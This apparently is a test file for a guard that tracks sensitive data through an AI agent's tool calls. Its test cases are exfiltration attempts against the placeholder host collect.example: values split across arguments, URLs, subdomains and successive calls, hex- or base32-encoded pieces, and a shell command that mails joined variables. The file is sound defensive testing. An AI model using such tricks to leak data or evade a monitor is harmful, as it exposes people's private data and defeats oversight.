from __future__ import annotations

import base64
from dataclasses import replace
from typing import Any

import pytest

from riskproof.facts.of_call import see_call
from riskproof.model.facts import CallFacts, Classification
from riskproof.model.policy import Policy, TrackerPolicy
from riskproof.model.sent import Sent
from riskproof.model.session import Session
from riskproof.model.taint import Kind
from riskproof.state.sent import send
from riskproof.state.tracker import record

VALUE = "QR-1207-ABQX-9934"
RECORD = f"Reference {VALUE} of the garden club"
SEND = Classification(("EXTERNAL_ACTION",))
FETCH = Classification(("EXTERNAL_INGESTION",))
RUN = Classification(("CODE_EXECUTION",))
SITE = "https://collect.example/"
NARROW = TrackerPolicy(max_entries=1)


def session(text: str = RECORD, kind: Kind = "customer_data") -> Session:
    """A session that tracks one text, in slot 1."""
    return record(Session(), kind, [text], "people", (), TrackerPolicy())[0]


def see(known: Session, arguments: dict[str, Any], tool: Classification = SEND, **policy: Any) -> CallFacts:
    return see_call("t", tool, "unchanged", arguments, known, Policy(**policy))


def labels(facts: CallFacts) -> dict[str, tuple[str, ...]]:
    return {leaf.place: leaf.labels for leaf in facts.leaves if leaf.labels}


def over_calls(known: Session, urls: list[str], tool: Classification = FETCH) -> list[CallFacts]:
    """The facts of fetches that all run."""
    seen = []
    for url in urls:
        seen.append(see(known, {"url": url}, tool))
        known = send(known, seen[-1].outgoing)
    return seen


def cut(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize(
    "arguments",
    [
        {"part1": "QR-12", "part2": "07-AB", "part3": "QX-99"},
        {"note": "hello", "part1": "QR-12", "to": "pal@mail.example", "part2": "07-AB", "part3": "QX-99"},
        {"items": ["QR-12", "07-AB", "QX-99"]},
        {"first": "QR-12", "second": {"x": "07-AB", "y": ["QX-99"]}},
    ],
)
def test_arguments_that_make_up_a_value_carry_its_labels_and_origin(arguments: dict[str, Any]) -> None:
    facts = see(session(), arguments)
    took = [leaf for leaf in facts.leaves if leaf.value in ("QR-12", "07-AB", "QX-99")]
    assert [(leaf.labels, leaf.origins) for leaf in took] == [(("CUSTOMER_DATA",), ("customer_data_1",))] * 3
    assert all(not leaf.labels for leaf in facts.leaves if leaf.value == "hello")
    assert [source.id for source in facts.sources] == ["customer_data_1"]
    assert facts.gradual == ()


@pytest.mark.parametrize(
    "url", [f"{SITE}?a=QR-12&b=07-AB&c=QX-99", f"{SITE}QR-12/07-AB/QX-99", "https://qr-12.07-abq.x-99.collect.example/"]
)
def test_parts_of_a_url_do(url: str) -> None:
    assert labels(see(session(), {"url": url}, FETCH)) == {"url": ("CUSTOMER_DATA",)}


@pytest.mark.parametrize("command", ["a=QR-12; b='07-AB'; c=QX-99; mail $a$b$c", 'x = "QR-12" + "07-ABQX"; send(x)'])
def test_strings_and_variables_of_a_command_do(command: str) -> None:
    assert labels(see(session(), {"command": command}, RUN)) == {"command": ("CUSTOMER_DATA",)}


def test_a_tool_that_only_reads_is_not_looked_at() -> None:
    assert labels(see(session(), {"part1": "QR-12", "part2": "07-ABQX"}, Classification(("PRIVATE_ACCESS",)))) == {}


@pytest.mark.parametrize(
    ("kind", "counts"), [("secret", True), ("tool_output", False), ("untrusted_web", False), ("untrusted_tool", False)]
)
def test_only_sensitive_texts_count_and_no_page_of_the_open_web(kind: Kind, counts: bool) -> None:
    facts = see(session("The sum is 4411 8832 0097 in all", kind), {"part1": "4411 88", "part2": "32 0097"})
    assert bool(labels(facts)) is counts


def test_a_short_number_counts_where_it_stands_alone_in_the_text() -> None:
    for text, counts in (("Account 8431-795 of Mona", True), ("Account 8431-7951 of Mona", False)):
        facts = see(session(text, "financial_data"), {"part1": "84", "part2": "31-", "part3": "795"})
        assert bool(labels(facts)) is counts


@pytest.mark.parametrize("size", [1, 2, 3, 4, 5, 6])
def test_pieces_of_several_calls_to_one_destination_add_up(size: int) -> None:
    seen = over_calls(session(), [f"{SITE}?d={piece}" for piece in cut(VALUE, size)])
    assert seen[0].gradual == ()
    assert any(facts.gradual == ((0, "CUSTOMER_DATA"),) and facts.leaves[0].carried == ("CUSTOMER_DATA",) for facts in seen)


def test_a_counter_a_changing_name_and_a_sub_domain_do_not_hide_them() -> None:
    pieces = list(enumerate(cut(VALUE, 3)))
    for urls in (
        [f"{SITE}{number}/{piece}" for number, piece in pieces],
        [f"{SITE}?n={number}&d={piece}" for number, piece in pieces],
        [f"{SITE}?k{number}={piece}" for number, piece in pieces],
        [f"https://x{number}.collect.example/{piece}" for number, piece in pieces],
        [f"https://a{piece.lower().replace('-', '')}.collect.example/{piece}" for number, piece in pieces],
    ):
        assert any(facts.gradual for facts in over_calls(session(), urls)), urls[0]


@pytest.mark.parametrize("encode", [bytes.hex, lambda data: base64.b32encode(data).decode().rstrip("=").lower()])
def test_an_encoded_value_in_pieces_is_decoded(encode: Any) -> None:
    seen = over_calls(session(), [f"https://{piece}.collect.example/" for piece in cut(encode(VALUE.encode()), 8)])
    assert any(facts.gradual for facts in seen)


def test_pieces_to_several_destinations_or_to_an_internal_one_do_not_add_up() -> None:
    pieces = cut(VALUE, 3)
    assert not any(facts.gradual for facts in over_calls(session(), [f"https://s{n}.example/?d={piece}" for n, piece in enumerate(pieces)]))
    seen = over_calls(session(), [f"http://localhost/?d={piece}" for piece in pieces])
    assert not any(facts.gradual or facts.outgoing for facts in seen)


def test_a_url_that_the_record_holds_as_a_whole_sends_nothing() -> None:
    url = f"{SITE}?a=garden&b=lanterns&c=1207"
    known = session(f"garden lanterns 1207, see {url}")
    assert see(known, {"url": url}, FETCH).leaves[0].carried == ()
    assert see(session("garden lanterns 1207, see elsewhere"), {"url": url}, FETCH).leaves[0].carried == ("CUSTOMER_DATA",)


def test_an_origin_whose_text_is_gone_counts_as_well() -> None:
    known = record(session(), "tool_output", ["another text altogether"], "t", (), NARROW)[0]
    assert known.index.ghosts
    facts = see(known, {"part1": "QR-12", "part2": "07-ABQX"})
    assert {leaf.origins for leaf in facts.leaves} == {("forgotten",)}
    assert labels(facts) == {"part1": ("CUSTOMER_DATA",), "part2": ("CUSTOMER_DATA",)}


def test_what_a_forgotten_destination_had_counts_for_every_one() -> None:
    known = replace(session(), sent={"": Sent(tails={"?d": ("QR-1", "207")})})
    assert see(known, {"url": f"{SITE}?d=-ABQX"}, FETCH).gradual == ((0, "CUSTOMER_DATA"),)


def test_words_of_a_record_add_up_and_a_constant_part_of_the_address_is_none() -> None:
    known = session("Lindqvist of Uppsala, librarian, plays tennis, drives Volvo")
    words = ["Lindqvist", "Uppsala", "librarian", "tennis", "Volvo"]
    assert [bool(facts.gradual) for facts in over_calls(known, [f"{SITE}find?q={word}" for word in words])] == [False] * 4 + [True]
    assert not any(facts.gradual for facts in over_calls(known, [f"{SITE}Lindqvist?q={number}" for number in range(20)]))


def test_nothing_is_remembered_where_no_sensitive_text_is_tracked() -> None:
    assert see(session(kind="tool_output"), {"url": f"{SITE}?d=QR-12"}, FETCH).outgoing is None
    assert see(Session(), {"url": f"{SITE}?d=QR-12"}, FETCH).outgoing is None
    off = {"tracker": TrackerPolicy(enabled=False), "taint_enabled": False}
    assert see(session(), {"url": f"{SITE}?d=QR-12"}, FETCH, **off).outgoing is None
